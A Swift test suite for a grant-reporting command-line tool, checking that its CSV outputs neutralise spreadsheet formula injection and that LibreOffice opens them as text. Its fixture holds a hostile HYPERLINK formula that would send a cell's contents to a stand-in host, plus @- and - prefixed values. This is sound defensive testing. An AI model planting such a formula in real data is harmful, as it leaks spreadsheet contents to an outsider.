import Foundation
import GrantStore
import Testing

/// Every CSV csdash writes for people (report, returns, the chase list, payments, the 360Giving CSV) is safe
/// to open in a spreadsheet: a name, contact or funder name that would run as a formula arrives
/// as text, with a leading `'`, while amounts, negative ones too, stay numbers. The data folder's
/// own files keep their bytes.
@Suite struct SpreadsheetSafeCSVTests {
    static let hyperlink = "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Solihull MBC\")"
    static let contact = "@SUM(1+1)"
    static let funderName = "-West Midlands PCC"

    /// sample-data with hostile text in Solihull's name and contact (Solihull's Q2 2016/17 return
    /// is overdue, so it is on the chase list too) and a funder name that begins with `-`.
    /// Wolverhampton's 2016/17 remainder is a negative amount, -1.
    static func hostileFolder() throws -> SampleDataCopy {
        let folder = try SampleDataCopy()
        let name = "\"" + hyperlink.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        try folder.edit("areas.csv", replacing: ",Solihull MBC,csp,,,", with: ",\(name),csp,,\(contact),")
        try folder.edit("funders.csv", replacing: ",West Midlands Police and Crime Commissioner,", with: ",\(funderName),")
        return folder
    }

    /// Each CSV output: the arguments after the folder.
    static let outputs: [(name: String, arguments: [String])] = [
        ("report", ["report", "--as-of", "2016-12-06", "--format", "csv"]),
        ("report-forecast", ["report", "--as-of", "2016-12-06", "--format", "csv", "--forecast"]),
        ("returns", ["returns", "--as-of", "2016-12-06", "--format", "csv"]),
        ("chase", ["returns", "--as-of", "2016-12-06", "--status", "overdue", "--format", "csv"]),
        ("grants", ["export", "--as-of", "2016-12-06", "--file-format", "csv"]),
        ("payments", ["payments", "--as-of", "2016-12-06", "--status", "all", "--format", "csv"]),
    ]

    static func written(_ folder: SampleDataCopy) throws -> [(name: String, text: String)] {
        try outputs.map { output in
            let result = try csdash([output.arguments[0], folder.path] + output.arguments.dropFirst())
            try #require(result.status == 0, "\(result)")
            return (output.name, result.stdout)
        }
    }

    static func cells(_ text: String) throws -> [[String]] {
        let records = try CSVReader.records(from: Array(text.utf8)).get()
        return records.map { $0.fields.map(\.value) }
    }

    @Test func noCellOfAnyCSVOutputBeginsAsAFormulaUnlessItIsANumber() throws {
        let folder = try Self.hostileFolder()
        for (name, text) in try Self.written(folder) {
            let rows = try Self.cells(text)
            #expect(rows.count >= 2, "\(name): \(text)")
            for cell in rows.joined() {
                guard let first = cell.unicodeScalars.first, SpreadsheetCSV.formulaStarts.contains(first) else { continue }
                #expect(cell.wholeMatch(of: /-[0-9]+(\.[0-9]+)?/) != nil, "\(name): \(cell) would run as a formula")
            }
        }
    }

    @Test func hostileTextArrivesWithALeadingQuoteAndNegativeAmountsStayBare() throws {
        let folder = try Self.hostileFolder()
        let outputs = Dictionary(uniqueKeysWithValues: try Self.written(folder))
        for name in ["report", "returns", "chase", "grants"] {
            let cells = Set(try Self.cells(try #require(outputs[name])).joined())
            #expect(cells.contains("'" + Self.hyperlink), "\(name)")
            #expect(!cells.contains(Self.hyperlink), "\(name)")
        }
        for name in ["returns", "chase"] {
            #expect(Set(try Self.cells(try #require(outputs[name])).joined()).contains("'" + Self.contact), "\(name)")
        }
        let grants = Set(try Self.cells(try #require(outputs["grants"])).joined())
        #expect(grants.contains("'" + Self.funderName), "Funding Org:Name")

        let report = try Self.cells(try #require(outputs["report"]))
        let header = try #require(report.first)
        let remainder = try #require(header.firstIndex(of: "remainder"))
        let wolverhampton = try #require(report.first { $0.count > 1 && $0[1] == "wolverhampton" })
        #expect(wolverhampton[remainder] == "-1", "a negative amount, bare")
    }

    /// A note typed as `=1+1` is kept as typed in returns.csv (the folder's own file), with a
    /// warning; areas.csv, not written, keeps its bytes.
    @Test func theDataFolderKeepsItsBytes() throws {
        let folder = try Self.hostileFolder()
        let before = try Data(contentsOf: folder.url.appendingPathComponent("areas.csv"))
        let record = try csdash("record", folder.path, "--area", "birmingham", "--year", "2016/17", "--quarter", "Q3",
                                "--received", "2017-01-20", "--planned", "1700000", "--spend", "1200000", "--note", "=1+1",
                                "--as-of", "2017-01-20")
        try #require(record.status == 0, "\(record)")
        #expect(record.stderr.contains("warning: notes \"=1+1\" begins with ="), "\(record)")
        #expect(try Data(contentsOf: folder.url.appendingPathComponent("areas.csv")) == before)
        let returns = try String(contentsOf: folder.url.appendingPathComponent("returns.csv"), encoding: .utf8)
        #expect(returns.contains(",1700000,1200000,=1+1,,,\n"), "returns.csv is written as it is read")
    }

    /// `check` and `import` warn, at the field, about text a spreadsheet would run.
    @Test func checkAndImportWarnOfFormulaLikeText() throws {
        let folder = try Self.hostileFolder()
        let check = try csdash("check", folder.path)
        #expect(check.status == 0, "\(check)")
        #expect(check.stderr.contains("areas.csv:6:24: warning: name \"=HYPERLINK("), "\(check)")
        #expect(check.stderr.contains("areas.csv:6:93: warning: contact \"@SUM(1+1)\" begins with @"), "\(check)")
        #expect(!check.stderr.contains("funder"), "a name beginning with - is not warned about: \(check)")
        let file = try ScratchFile("q3.csv", "area_id,year,quarter,received,planned,spend,notes\nbirmingham,2016/17,Q3,2017-01-20,1700000,1200000,+1 on Q2\n")
        let imported = try csdash("import", folder.path, file.path, "--dry-run")
        #expect(imported.status == 0, "\(imported)")
        #expect(imported.stderr.contains("warning: notes \"+1 on Q2\" begins with +"), "\(imported)")
    }

    /// LibreOffice, headless, opens every CSV output: the hostile name is a text cell holding
    /// `'=HYPERLINK(...)`, no cell anywhere is a formula, and the negative remainder is a number.
    /// (scripts/ensure-deps.sh installs LibreOffice for the test command.)
    @Test func libreOfficeOpensEveryCSVOutputWithTheFormulaAsText() throws {
        let soffice = try #require(["/usr/bin/soffice", "/usr/local/bin/soffice"].first { FileManager.default.isExecutableFile(atPath: $0) },
                                   "LibreOffice (soffice) is not installed: run scripts/ensure-deps.sh --with-tmux")
        let folder = try Self.hostileFolder()
        let work = folder.url.appendingPathComponent("libreoffice")
        try FileManager.default.createDirectory(at: work, withIntermediateDirectories: true)
        var files: [String] = []
        for (name, text) in try Self.written(folder) {
            let file = work.appendingPathComponent("\(name).csv")
            try Data(text.utf8).write(to: file)
            files.append(file.path)
        }
        // Comma-separated, double quotes, UTF-8 (76), from line 1: the import dialog's defaults,
        // which evaluate formulas. A profile of its own, so that no other LibreOffice is disturbed.
        let converted = try run(URL(fileURLWithPath: soffice),
                                ["-env:UserInstallation=file://\(work.path)/profile", "--headless", "--infilter=CSV:44,34,76,1",
                                 "--convert-to", "fods", "--outdir", work.path] + files,
                                environment: ["HOME": work.path])
        try #require(converted.status == 0, "\(converted)")
        for name in Self.outputs.map(\.name) {
            let sheet = try String(contentsOf: work.appendingPathComponent("\(name).fods"), encoding: .utf8)
            #expect(!sheet.contains("table:formula="), "\(name): a cell became a formula")
            if name != "report-forecast" {
                #expect(sheet.contains("<text:p>&apos;=HYPERLINK(&quot;http://example.com/?leak=&quot;&amp;A1,&quot;Solihull MBC&quot;)</text:p>"),
                        "\(name): the name is not the text cell it should be")
            }
            if name.hasPrefix("report") {
                #expect(sheet.contains(/office:value-type="float" office:value="-[0-9]/), "\(name): the negative remainder is not a number")
            }
        }
    }
}
